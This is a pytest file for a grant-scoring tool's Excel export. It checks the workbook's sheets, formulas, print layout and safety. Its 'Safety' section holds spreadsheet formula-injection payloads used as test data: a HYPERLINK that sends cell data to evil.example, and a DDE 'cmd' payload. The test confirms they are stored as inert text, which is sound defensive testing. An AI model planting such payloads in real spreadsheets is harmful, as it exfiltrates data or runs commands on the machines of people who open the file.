"""`grantgrid export`: the committee's workbook, read back with openpyxl and as raw XML."""

from __future__ import annotations

import hashlib
import io
import os
import re
import subprocess
import sys
import zipfile
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from openpyxl.cell.cell import Cell
from openpyxl.formula.tokenizer import Token, Tokenizer
from openpyxl.formula.translate import Translator
from openpyxl.utils import get_column_letter
from openpyxl.workbook.workbook import Workbook
from typer.testing import CliRunner

from conftest import OTHER_GRID, REFERENCE_GRID, ROOT, Call, reference_text, replace_budget
from grantgrid.cli import app
from grantgrid.evaluation import evaluate
from grantgrid.outputs.workbook import build_workbook
from grantgrid.outputs.workbook.sheet import header_width
from grantgrid.outputs.workbook.text import (
    CUT_MARKER,
    EUR_FORMAT,
    MAX_TEXT,
    PERCENT_FORMAT,
    SheetTitles,
    sheet_reference,
    shorten,
    utf16_length,
    write_amount,
    write_text,
)

runner = CliRunner()
APPLICATIONS = ROOT / "applications"


def export(*args: str) -> tuple[int, str]:
    result = runner.invoke(app, ["export", *args])
    return result.exit_code, result.output


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    target = tmp_path_factory.mktemp("demo") / "comite.xlsx"
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(ROOT)  # paths are shown relative to the current folder
        code, output = export("applications", "-o", str(target), "-q")
    assert code == 0, output
    return target


@pytest.fixture(autouse=True)
def at_repository_root(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ROOT)


def rows(workbook: Workbook, title: str) -> list[list[object]]:
    return [list(r) for r in workbook[title].iter_rows(values_only=True)]


def summary(workbook: Workbook, title: str = "Synthèse") -> list[list[object]]:
    """A summary's table: its header row (row 2, below the grid's name) and the dossiers."""
    return rows(workbook, title)[1:]


def column(sheet_rows: list[list[object]], header: str) -> list[object]:
    index = sheet_rows[0].index(header)
    return [r[index] for r in sheet_rows[1:]]


# The summary


def test_sheets_in_order(demo: Path) -> None:
    workbook = openpyxl.load_workbook(demo)
    ids = [o.dossier_id for o in evaluate([APPLICATIONS]).ordered()]
    # The bundled call has a maquette and a committee: their sheets come before the long tables;
    # the hidden index for `collect` comes last.
    after = ["Maquette", "Séances", "Notes", "Désaccords", "Budget", "À propos", "_grantgrid"]
    assert workbook.sheetnames == ["Synthèse", *ids, *after]


def test_summary_lists_dossiers_in_rank_order_with_grantgrid_totals(demo: Path) -> None:
    run = evaluate([APPLICATIONS])
    cached = summary(openpyxl.load_workbook(demo, data_only=True))
    assert column(cached, "Dossier") == [o.dossier_id for o in run.ordered()]
    assert column(cached, "Rang (à l'export)") == [o.rank for o in run.ordered()]
    expected = [int(o.final.total) if o.final else None for o in run.ordered()]
    assert [t if t != "" else None for t in column(cached, "Total")] == expected
    assert column(cached, "Statut (à l'export)") == [
        "retenu",
        "retenu",
        "retenu",
        "non retenu",
        "incomplet",
        "incomplet",
        "incomplet",
    ]
    assert column(cached, "Coût total")[0] == 45848.51
    assert column(cached, "LEADER (FEADER)")[0] == 29343.05


def test_summary_totals_are_formulas_over_the_dossier_sheets(demo: Path) -> None:
    sheet = openpyxl.load_workbook(demo)["Synthèse"]
    header = [c.value for c in sheet[2]]
    row = {h: c for h, c in zip(header, sheet[3], strict=True)}  # DLQC-2017-01, ranked first
    assert row["Total"].value == '=IF(COUNT(L3:O3)=0,"",SUM(L3:O3))'
    # Column J: the final column, after technique, restreint and CUC.
    assert re.fullmatch(r"='DLQC-2017-01'!\$J\$\d+", row["Caractère innovant"].value)
    assert re.fullmatch(r"='DLQC-2017-01'!\$J\$\d+", row["Bonus"].value)
    assert re.fullmatch(r"='DLQC-2017-01'!\$D\$\d+", row["Taux public"].value)
    assert row["Coût total"].number_format == EUR_FORMAT
    assert row["Taux public"].number_format == PERCENT_FORMAT


def test_summary_layout(demo: Path) -> None:
    workbook = openpyxl.load_workbook(demo)
    sheet = workbook["Synthèse"]
    # Row 1 names the grid and its maximum; the table (header on row 2) is frozen, filtered
    # and printed below it.
    assert sheet["A1"].value == (
        "Grille leader-tulle-2014-2020 — Grille de sélection des projets LEADER 2014-2020 — "
        "territoire de Tulle — total sur 20"
    )
    assert sheet.freeze_panes == "C3"
    assert sheet.auto_filter.ref == "A2:S9"  # the last column: the decision at export
    assert sheet.print_title_rows == "$1:$2"
    assert [str(r) for r in sheet.conditional_formatting] == ["<ConditionalFormatting Q3:Q9>"]
    for each in workbook.worksheets:
        assert not each.merged_cells.ranges, each.title


SUMMARY_ROW_REFERENCE = re.compile(r"\$?([A-Z]+)\$?(\d+)")
ABSOLUTE_CELL = re.compile(r"\$[A-Z]+\$\d+")


def references(formula: str) -> list[str]:
    """The cell and range references of a formula, as openpyxl's tokenizer reads them."""
    return [
        token.value
        for token in Tokenizer(formula).items
        if token.type == Token.OPERAND and token.subtype == Token.RANGE
    ]


def assert_sort_proof(workbook: Workbook, title: str) -> int:
    """Every reference of a sheet's formulas survives a sort; return how many formulas.

    Excel moves a formula like a copy when it sorts rows (Microsoft KB Q40401): relative
    references shift with it. So a reference to another sheet must be absolute on both axes,
    and a relative reference on the sheet itself may only read the formula's own row.
    """
    sheet = workbook[title]
    count = 0
    for row in sheet.iter_rows():
        for cell in row:
            if cell.data_type != "f":
                continue
            count += 1
            for reference in references(cell.value):
                where = f"{title}!{cell.coordinate}: {cell.value}"
                if "!" in reference:
                    for corner in reference.rsplit("!", 1)[1].split(":"):
                        assert ABSOLUTE_CELL.fullmatch(corner), where
                else:
                    for part in reference.split(":"):
                        match = SUMMARY_ROW_REFERENCE.fullmatch(part)
                        assert match and (int(match[2]) == cell.row or "$" in part), where
            # What a sort does to the formula: the same dossier cells, read from another row.
            moved = Translator(cell.value, origin=cell.coordinate).translate_formula(
                f"{cell.column_letter}{cell.row + 7}"
            )
            assert [r for r in references(moved) if "!" in r] == [
                r for r in references(cell.value) if "!" in r
            ], where
    return count


def test_summary_formulas_survive_a_sort(demo: Path, tmp_path: Path) -> None:
    workbook = openpyxl.load_workbook(demo)
    assert assert_sort_proof(workbook, "Synthèse") > 40
    for title in ("Notes", "Budget"):  # filtered too, and snapshots: no formula to break
        assert assert_sort_proof(workbook, title) == 0
    target = tmp_path / "two.xlsx"
    target.write_bytes(build_workbook(two_grids(tmp_path).run()))
    both = openpyxl.load_workbook(target)
    for title in both.sheetnames[:2]:
        assert assert_sort_proof(both, title) > 8


def test_every_sheet_prints_on_a4_fitted_to_the_width(demo: Path) -> None:
    workbook = openpyxl.load_workbook(demo)
    for sheet in workbook.worksheets:
        setup = sheet.page_setup
        assert setup.orientation == "landscape" and setup.paperSize == 9, sheet.title  # A4
        assert setup.fitToWidth == 1 and setup.fitToHeight == 0, sheet.title
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        assert sheet.page_margins.left == sheet.page_margins.right == 0.2
        assert sheet.oddFooter.center.text == "&A — &P / &N"  # the sheet's name, the page
    assert workbook["Notes"].print_title_rows == workbook["Budget"].print_title_rows == "$1:$1"
    about = workbook["À propos"]
    header = int(about.print_title_rows.split(":")[0].strip("$"))
    assert [c.value for c in about[header]] == ["Rôle", "Fichier", "SHA-256"]


def test_summary_prints_legibly(demo: Path) -> None:
    """Fitted to an A4 landscape page, the reference call's summary is printed at 7 points or
    more, and no bold header is wider than its column (it would be cut inside a word)."""
    sheet = openpyxl.load_workbook(demo)["Synthèse"]
    widths = [
        sheet.column_dimensions[get_column_letter(c)].width for c in range(1, sheet.max_column + 1)
    ]
    # Excel's pixels for a width w of Calibri 11 at 96 dpi: 7 w + 5; a point is 0.75 pixel.
    table = sum((7 * w + 5) * 0.75 for w in widths)
    printable = 297 / 25.4 * 72 - 72 * (sheet.page_margins.left + sheet.page_margins.right)
    assert 11 * printable / table >= 7
    for cell, width in zip(sheet[2], widths, strict=True):
        assert cell.alignment.wrap_text and width >= header_width(cell.value), cell.value
    assert sheet.row_dimensions[2].height >= 15 * 4  # "Budget conforme (à l'export)"


def test_frozen_columns_say_so_and_live_ones_do_not(demo: Path) -> None:
    header = summary(openpyxl.load_workbook(demo))[0]
    frozen = [h for h in header if isinstance(h, str) and h.endswith("(à l'export)")]
    assert frozen == [
        "Rang (à l'export)",
        "Budget conforme (à l'export)",
        "Statut (à l'export)",
        "Motifs (à l'export)",
        "Décision (à l'export)",
    ]


def test_dossier_sheet_subtotals_and_final_column(demo: Path) -> None:
    sheet = openpyxl.load_workbook(demo)["DLQC-2017-01"]
    values = openpyxl.load_workbook(demo, data_only=True)["DLQC-2017-01"]
    labels = [c.value for c in sheet["B"]]
    subtotal = labels.index("Sous-total") + 1  # the first axis
    notes = subtotal - 3
    # G: the comité technique (the members' mean, a formula), H: restreint, I: CUC, J: final.
    assert (
        sheet[f"H{subtotal}"].value
        == f'=IF(COUNT(H{notes}:H{subtotal - 1})=0,"",SUM(H{notes}:H{subtotal - 1}))'
    )
    assert values[f"H{subtotal}"].value == 6
    assert values[f"I{subtotal}"].value in ("", None)  # CUC not scored: missing, not zero
    missing = [c.value for c in sheet["A"]].index("Notes manquantes") + 1
    assert sheet[f"J{subtotal}"].value == (
        f"=IF(I${missing}=0,I{subtotal},IF(H${missing}=0,H{subtotal},"
        f'IF(G${missing}=0,G{subtotal},"")))'
    )
    assert values[f"H{missing}"].value == 0 and values[f"I{missing}"].value == 10
    assert sheet[f"H{notes}"].value == 2 and sheet[f"I{notes}"].value is None
    assert str(sheet[f"G{notes}"].value).startswith("=IF(COUNT(")
    assert sheet.data_validations.dataValidation[0].formula2 == "2"


def test_notes_and_budget_sheets_are_long_tables(demo: Path) -> None:
    workbook = openpyxl.load_workbook(demo)
    run = evaluate([APPLICATIONS])
    notes = rows(workbook, "Notes")
    # A collective stage: one row per cell (9 cells + bonus); an individual one: one row per
    # member's counted note.
    expected = sum(
        sum(c.n for c in s.panel.cells.values()) if s.panel else 10
        for o in run.outcomes
        for s in o.stages
    )
    assert len(notes) - 1 == expected
    first = notes[1]
    # The stage by its label, as every output names it.
    assert first[:3] == [
        "leader-tulle-2014-2020",
        run.ordered()[0].dossier_id,
        "Avis du comité technique",
    ]
    assert first[9] == "cfaurie" and notes[0][9] == "Membre"
    collective = next(r for r in notes if r[2] == "Note en comité restreint")
    assert collective[9] is None
    budget = rows(workbook, "Budget")
    lines = sum(
        len(o.dossier.budget.expenses) + len(o.dossier.budget.resources)
        for o in run.outcomes
        if o.dossier
    )
    assert len(budget) - 1 == lines
    assert budget[1][6] == 2576.5 and workbook["Budget"]["G2"].number_format == EUR_FORMAT


def test_about_sheet_lists_inputs_with_their_hash(demo: Path) -> None:
    about = rows(openpyxl.load_workbook(demo), "À propos")
    by_file = {r[1]: r[2] for r in about if r[0] in ("Dossier", "Grille")}
    assert (
        by_file["grids/leader-tulle.yaml"]
        == hashlib.sha256(REFERENCE_GRID.read_bytes()).hexdigest()
    )
    assert len(by_file) == 8


def test_english_labels(tmp_path: Path) -> None:
    target = tmp_path / "committee.xlsx"
    assert export(str(APPLICATIONS), "-o", str(target), "--lang", "en")[0] == 0
    workbook = openpyxl.load_workbook(target)
    assert workbook.sheetnames[0] == "Summary" and workbook.sheetnames[-2] == "About"
    assert column(summary(workbook, "Summary"), "Status (at export)")[:4] == ["selected"] * 3 + [
        "rejected"
    ]
    assert [r[0] for r in rows(workbook, "About") if r[0] in ("Dossier", "Grid")] == [
        "Dossier"
    ] * 7 + ["Grid"]


# Safety


HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "fiche_action": "{=1+1}",
    "applicant": "+cmd|' /C calc'!A0",
    "address": "@SUM(A1)",
    "expense": "-2+3",
    "category": "#N/A",
    "remark": "=== Budget notes ===",
    "answer": "\t=1+1",
}


def hostile_dossier(call: Call) -> None:
    text = reference_text()
    quoted = {
        k: '"' + v.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t") + '"'
        for k, v in HOSTILE.items()
    }
    text = text.replace(
        "title: Révolution numérique et ambition culturelle", f"title: {quoted['title']}"
    )
    text = re.sub(r"fiche_action: .*", f"fiche_action: {quoted['fiche_action']}", text)
    text = text.replace(
        "  name: Association Des Lendemains qui chantent", f"  name: {quoted['applicant']}"
    )
    text = re.sub(r"  address: .*", f"  address: {quoted['address']}", text)
    text = text.replace(
        "{label: Mise en place d'un cloud, amount: 2576.50}",
        f"{{label: {quoted['expense']}, amount: 2576.50, category: {quoted['category']}}}",
    )
    text = text.replace('remarks: ""', f"remarks: {quoted['remark']}")
    # A category is free text only under a grid that lists none (SPEC-financing.md): the
    # reference grid's categories are dropped so that the hostile one stays valid.
    grid = call.root / "grids" / "leader-tulle.yaml"
    grid_text = grid.read_text(encoding="utf-8")
    start = grid_text.index("  categories:\n")
    end = grid_text.index("  # Financeurs admis")
    grid.write_text(grid_text[:start] + grid_text[end:], encoding="utf-8")
    text = re.sub(
        r"(  innovant:\n    amont: )\|\n(      .*\n)+?(    objet:)",
        rf"\g<1>{quoted['answer']}\n\g<3>",
        text,
        count=1,
    )
    call.dossier("hostile.yaml", text)


def cell_xml(xlsx: Path, sheet_index: int, reference: str) -> str:
    with zipfile.ZipFile(xlsx) as package:
        xml = package.read(f"xl/worksheets/sheet{sheet_index}.xml").decode()
    match = re.search(rf'<c r="{reference}"[^>]*>.*?</c>', xml)
    assert match, reference
    return match[0]


def test_dossier_text_stays_text(
    call: Call, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)  # this call's folder, not the bundled one (its maquette)
    hostile_dossier(call)
    assert not call.problems("hostile.yaml"), call.problems("hostile.yaml")
    target = tmp_path / "out.xlsx"
    assert (
        export(
            str(call.root / "applications"), "--grids", str(call.root / "grids"), "-o", str(target)
        )[0]
        == 0
    )
    workbook = openpyxl.load_workbook(target)
    found: dict[str, tuple[int, Cell]] = {}
    for index, sheet in enumerate(workbook.worksheets, start=1):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in HOSTILE.values() and cell.value not in found:
                    found[cell.value] = (index, cell)
    assert set(found) == set(HOSTILE.values())
    for text, (index, cell) in found.items():
        assert cell.data_type == "s" and cell.value == text
        assert cell.quotePrefix, text
        xml = cell_xml(target, index, cell.coordinate)
        assert "<f>" not in xml and 't="inlineStr"' in xml, xml


def test_write_text_policy() -> None:
    sheet = openpyxl.Workbook().active
    assert write_text(sheet["A1"], "a\x07b\x00c").value == "abc"
    long = write_text(sheet["A2"], "x" * 40_000).value
    assert len(long) == MAX_TEXT and long.endswith(CUT_MARKER)
    for text in ("\r=1", "#DIV/0!", "-"):
        cell = write_text(sheet["A3"], text)
        assert cell.value == text and cell.data_type == "s" and cell.quotePrefix
    assert not write_text(sheet["A4"], "Budget 2024").quotePrefix


def test_amounts_are_exact_numbers_or_text() -> None:
    sheet = openpyxl.Workbook().active
    assert write_amount(sheet["A1"], Decimal("29343.05")).value == 29343.05
    assert write_amount(sheet["A2"], Decimal("9169.70")).value == 9169.7
    assert sheet["A2"].number_format == EUR_FORMAT
    assert write_amount(sheet["A3"], Decimal("1234567890123456.78")).value == "1234567890123456.78"
    assert write_amount(sheet["A4"], Decimal("NaN")).data_type == "s"


def test_sheet_titles_are_safe_and_unique() -> None:
    titles = SheetTitles()
    made = [
        titles.make(t)
        for t in (
            "Budget",
            "budget",
            "Budget/2024[1]*?",
            "'quoted'",
            "x" * 40,
            "History",
            "",
            "x" * 40,
        )
    ]
    assert made[0] == "Budget" and made[1] == "budget (2)"
    assert made[2] == "Budget_2024_1___" and made[3] == "quoted"
    assert made[4] == "x" * 15 + "…" + "x" * 15 and made[5] == "History (2)"
    assert made[6] == "Feuille" and made[7] == "x" * 13 + "…" + "x" * 13 + " (2)"
    assert len({m.casefold() for m in made}) == len(made)
    assert sheet_reference("Budget d'Anne") == "'Budget d''Anne'"


def test_every_sheet_belongs_to_the_workbook_with_its_own_title(call: Call) -> None:
    """Sheets are named apart from the workbook (openpyxl's own naming is quadratic) then
    attached: a dossier called like openpyxl's default sheet keeps its title, and every sheet's
    styles are the workbook's."""
    from grantgrid.outputs.workbook.summary import _Builder, input_files

    call.dossier("a.yaml", reference_text().replace("DLQC-2017-01", "Sheet"))
    run = call.run()
    builder = _Builder(run, "fr", datetime(2026, 1, 1), input_files(run))
    builder.build()
    book = builder.workbook
    assert "Sheet" in book.sheetnames and builder.staging.sheetnames == []
    assert all(sheet.parent is book for sheet in book.worksheets)


def test_sheet_titles_count_utf16_units_as_excel_does() -> None:
    """An emoji is one Python character but two UTF-16 code units, and Excel counts units."""
    titles = SheetTitles()
    first, second = titles.make("😀" * 20), titles.make("😀" * 20)
    for title in (first, second):
        assert utf16_length(title) <= 31
        assert len(title.encode("utf-16-le")) // 2 == utf16_length(title)
    assert first == "😀" * 7 + "…" + "😀" * 8  # 14 + 1 + 16 units: no pair split
    assert second == "😀" * 6 + "…" + "😀" * 7 + " (2)"
    assert utf16_length("a😀") == 3 and shorten("ab😀😀cd", 7) == "ab…😀cd"


def test_shortened_titles_keep_what_tells_them_apart() -> None:
    titles = SheetTitles()
    a = titles.make("Synthèse leader-tulle-2014-2020-appel-a")
    b = titles.make("Synthèse leader-tulle-2014-2020-APPEL-A")  # equal ignoring case
    c = titles.make("Synthèse leader-tulle-2014-2020-appel-b")
    assert a == "Synthèse leader…14-2020-appel-a" and c == "Synthèse leader…14-2020-appel-b"
    assert b == "Synthèse lead…-2020-APPEL-A (2)"
    long = titles.make("A" * 31 + "-one"), titles.make("A" * 31 + "-two")
    assert [t[-4:] for t in long] == ["-one", "-two"]
    assert all(utf16_length(t) <= 31 for t in (a, b, c, *long))
    # The cut never leaves an apostrophe or a space at either end of the title.
    assert titles.make("'" + "x" * 14 + " ' " + "y" * 20 + "'") == "x" * 14 + "…" + "y" * 16


def test_invalid_dossier_still_appears(call: Call, tmp_path: Path) -> None:
    call.dossier("good.yaml", reference_text())
    unbalanced = replace_budget(
        reference_text().replace("DLQC-2017-01", "BAD-1"),
        """
        budget:
          expenses:
            - {label: Cloud, amount: 1000}
          resources:
            - {funder: leader, amount: 10}
        """,
    )
    call.dossier("bad.yaml", unbalanced)
    call.dossier("broken.yaml", "dossier: [unclosed\n")
    lost = reference_text().replace("DLQC-2017-01", "LOST-1")
    call.dossier("lost.yaml", lost.replace("grid: leader-tulle-2014-2020", "grid: nowhere"))
    # Invalid for its title alone: its budget passes every rule but has no sheet to show it.
    call.dossier(
        "titled.yaml",
        reference_text().replace("DLQC-2017-01", "TITLE-1").replace("title:", "title: 2017 #", 1),
    )
    target = tmp_path / "out.xlsx"
    code, _ = export(
        str(call.root / "applications"), "--grids", str(call.root / "grids"), "-o", str(target)
    )
    assert code == 1 and target.exists()
    workbook = openpyxl.load_workbook(target, data_only=True)
    table = summary(workbook)
    dossiers = column(table, "Dossier")
    assert dossiers[0] == "DLQC-2017-01" and "BAD-1" in dossiers
    assert any(str(d).endswith("broken.yaml") for d in dossiers)
    assert column(table, "Statut (à l'export)") == ["retenu"] + ["invalide"] * 4
    assert column(table, "Budget conforme (à l'export)")[dossiers.index("BAD-1")] == "non"
    # No verdict without the amounts it is about.
    titled = dossiers.index("TITLE-1")
    assert column(table, "Coût total")[titled] is None
    assert column(table, "Budget conforme (à l'export)")[titled] is None
    # Without its grid, a dossier's funders have no kind: no rate rather than a false 0 %.
    lost_row = dossiers.index("LOST-1")
    assert column(table, "Coût total")[lost_row] == 45848.51
    assert column(table, "Taux public")[lost_row] is None
    assert any("budget.unbalanced" in (r or "") for r in column(table, "Motifs (à l'export)"))


# Files


def test_refuses_to_overwrite_without_force(demo: Path, tmp_path: Path) -> None:
    target = tmp_path / "comite.xlsx"
    target.write_bytes(b"previous")
    code, output = export(str(APPLICATIONS), "-o", str(target))
    assert code == 2 and "--force" in output and target.read_bytes() == b"previous"
    assert export(str(APPLICATIONS), "-o", str(target), "--force")[0] == 0
    assert zipfile.is_zipfile(target)


def test_refuses_to_write_over_an_input(call: Call) -> None:
    grid = call.root / "grids" / "leader-tulle.xlsx"
    grid.symlink_to(call.root / "grids" / "leader-tulle.yaml")
    before = (call.root / "grids" / "leader-tulle.yaml").read_bytes()
    call.dossier("good.yaml", reference_text())
    code, output = export(
        str(call.root / "applications"),
        "--grids",
        str(call.root / "grids"),
        "-o",
        str(grid),
        "--force",
    )
    assert code == 2 and "fichiers lus" in output
    assert (call.root / "grids" / "leader-tulle.yaml").read_bytes() == before


def test_same_inputs_same_bytes(tmp_path: Path) -> None:
    """Twice in this process and once in another with another hash seed: identical bytes."""
    run = evaluate([APPLICATIONS])
    first, second = build_workbook(run), build_workbook(evaluate([APPLICATIONS]))
    assert first == second
    target = tmp_path / "other.xlsx"
    environment = {**os.environ, "PYTHONHASHSEED": "12345"}
    subprocess.run(
        [sys.executable, "-m", "grantgrid", "export", "applications", "-o", str(target), "-q"],
        cwd=ROOT,
        env=environment,
        check=True,
    )
    assert target.read_bytes() == first


def test_dates_come_from_source_date_epoch(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1500000000")  # 2017-07-14 02:40:00 UTC
    data = build_workbook(evaluate([APPLICATIONS]))
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert {i.date_time for i in package.infolist()} == {(2017, 7, 14, 2, 40, 0)}
        core = package.read("docProps/core.xml").decode()
    assert core.count("2017-07-14T02:40:00Z") == 2


OTHER_DOSSIER = """
    dossier: COOP-2024-01
    title: Coopération
    grid: autre-appel-2024
    applicant: {name: Asso}
    budget:
      expenses: [{label: Tout, amount: 1966.67}]
      resources:
        - {funder: leader, amount: 1000.00}
        - {funder: region, amount: 666.67}
        - {funder: propre, amount: 300.00}
    scores:
      instruction:
        qualite: {pertinence: 2.5, methode: 4}
        impact: {emploi: 3, partenariat: 1.5}
        bonus: {jeunesse: 1, collectif: 2}
      comite:
        qualite: {pertinence: 3, methode: 3.5}
        impact: {emploi: 2, partenariat: 3}
        bonus: {jeunesse: 0, collectif: 3}
      cuc:
        qualite: {pertinence: 1}
"""


def two_grids(root: Path) -> Call:
    """A call with the reference grid and a weighted, half-point, three-stage grid."""
    both = Call(root, [REFERENCE_GRID, OTHER_GRID])
    both.dossier("dlqc.yaml", reference_text())
    both.dossier("coop.yaml", OTHER_DOSSIER)
    return both


def test_one_summary_per_grid_and_weighted_subtotals(tmp_path: Path) -> None:
    both = two_grids(tmp_path)
    run = both.run()
    assert not run.has_errors
    data = build_workbook(run)
    target = tmp_path / "out.xlsx"
    target.write_bytes(data)
    workbook = openpyxl.load_workbook(target)
    assert workbook.sheetnames[:2] == [
        "Synthèse autre-appel-2024",
        "Synthèse leader-tulle-2014-2020",
    ]
    cached = summary(openpyxl.load_workbook(target, data_only=True), "Synthèse autre-appel-2024")
    assert column(cached, "Total") == [16.5] and column(cached, "Étape retenue") == [
        "Note du comité"
    ]
    assert column(cached, "Impact territorial") == [7]  # 2 × 2 + 3
    sheet = workbook["COOP-2024-01"]
    formulas = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    # Each stage has a note column (H) and a points column (I = H × the coefficient in G),
    # which the subtotals add up.
    assert any(f.startswith("=IF(H") and "*$G" in f for f in formulas)
    assert any(f.startswith("=IF(COUNT(H") and "SUM(I" in f for f in formulas)


def test_similar_grids_get_distinct_tabs_and_each_summary_names_its_grid(tmp_path: Path) -> None:
    """Two grids whose ids differ only at the end: the tabs keep the end, row 1 names the grid."""
    grid = REFERENCE_GRID.read_text(encoding="utf-8")
    call = Call(tmp_path, [])
    for letter in "ab":
        grid_id = f"leader-tulle-2014-2020-appel-{letter}"
        (call.root / "grids" / f"{letter}.yaml").write_text(
            grid.replace("grid: leader-tulle-2014-2020", f"grid: {grid_id}"), encoding="utf-8"
        )
        call.dossier(
            f"{letter}.yaml",
            reference_text()
            .replace("DLQC-2017-01", f"D-{letter}")
            .replace("grid: leader-tulle-2014-2020", f"grid: {grid_id}"),
        )
    workbook = openpyxl.load_workbook(io.BytesIO(build_workbook(call.run())))
    assert workbook.sheetnames[:2] == [
        "Synthèse leader…14-2020-appel-a",
        "Synthèse leader…14-2020-appel-b",
    ]
    for letter, sheet in zip("ab", workbook.worksheets[:2], strict=True):
        assert sheet["A1"].value.startswith(f"Grille leader-tulle-2014-2020-appel-{letter} — ")
        assert sheet["A1"].value.endswith("— territoire de Tulle — total sur 20")
        assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("C3", "A2:R3")
        assert sheet.print_title_rows == "$1:$2" and sheet["B2"].value == "Dossier"
        assert sheet["B3"].value == f"D-{letter}"


def test_an_emoji_id_gives_a_title_excel_accepts(call: Call, tmp_path: Path) -> None:
    """An invalid dossier is shown under its id: 20 emoji are 40 UTF-16 units for Excel."""
    call.dossier("emoji.yaml", reference_text().replace("DLQC-2017-01", '"' + "😀" * 20 + '"'))
    call.dossier("😀" * 20 + ".yaml", "dossier: [unclosed\n")  # unreadable: its file name
    workbook = openpyxl.load_workbook(io.BytesIO(build_workbook(call.run())))
    emoji = [t for t in workbook.sheetnames if "😀" in t]
    assert len(emoji) == 2 and emoji[0].casefold() != emoji[1].casefold()
    assert all(utf16_length(t) <= 31 and not t.endswith("'") for t in emoji)
    assert "😀" * 20 in column(summary(workbook), "Dossier")  # the summary keeps the whole id


def test_dossier_sheet_details(tmp_path: Path) -> None:
    """The rank is a number; a grid without phases heads its cell column "Critère" (SPEC.md,
    never "Phase"); a fund limit names the funder as the grid labels it."""
    run = two_grids(tmp_path).run()
    workbook = openpyxl.load_workbook(io.BytesIO(build_workbook(run)))
    dlqc, coop = workbook["DLQC-2017-01"], workbook["COOP-2024-01"]
    rank = next(r for r in dlqc.iter_rows() if r[0].value == "Rang (à l'export)")[1]
    assert rank.value == 1 and rank.data_type == "n"
    headers = {sheet.title: [c.value for c in sheet["B"]] for sheet in (dlqc, coop)}
    assert "Phase" in headers["DLQC-2017-01"] and "Critère" not in headers["DLQC-2017-01"]
    assert "Critère" in headers["COOP-2024-01"] and "Phase" not in headers["COOP-2024-01"]
    rules = [c.value for c in coop["A"]]
    assert any(r and r.startswith("Montant LEADER entre") for r in rules)
    assert not any(r and "leader" in r for r in rules)
    english = openpyxl.load_workbook(io.BytesIO(build_workbook(run, lang="en")))
    assert any(
        r and r.startswith("LEADER amount between")
        for r in [c.value for c in english["COOP-2024-01"]["A"]]
    )
    assert "Criterion" in [c.value for c in english["COOP-2024-01"]["B"]]


def test_a_half_point_grid_validates_multiples_of_its_step(tmp_path: Path) -> None:
    """No built-in rule says "a multiple of 0.5": a custom formula per run of note cells,
    naming the run's first cell (the spreadsheet shifts it for the cells below)."""
    data = build_workbook(two_grids(tmp_path).run())
    target = tmp_path / "out.xlsx"
    target.write_bytes(data)
    book = openpyxl.load_workbook(target)
    rules = {
        str(dv.sqref): (dv.type, dv.formula1, dv.error)
        for dv in book["COOP-2024-01"].data_validations.dataValidation
    }
    assert rules["J11:J12"] == (
        "custom",
        "AND(ISNUMBER(J11),J11>=0,J11<=3,ABS(J11/0.5-ROUND(J11/0.5,0))<0.000001)",
        "Une note de 0 à 3, multiple de 0,5",
    )
    assert "J9<=4" in rules["J9"][1] and "J14<=1" in rules["J14"][1]  # the cell's own points
    covered = [cell for sqref in rules for cell in openpyxl_cells(sqref)]
    index = book["_grantgrid"].iter_rows(min_row=3, values_only=True)
    editable = [row[9] for row in index if row[2] == "COOP-2024-01"]
    assert sorted(covered) == sorted(editable)  # every editable cell, once


def openpyxl_cells(sqref: str) -> list[str]:
    from openpyxl.utils import get_column_letter
    from openpyxl.utils.cell import range_boundaries

    low_column, low_row, high_column, high_row = range_boundaries(sqref)
    return [
        f"{get_column_letter(column)}{row}"
        for column in range(low_column, high_column + 1)
        for row in range(low_row, high_row + 1)
    ]
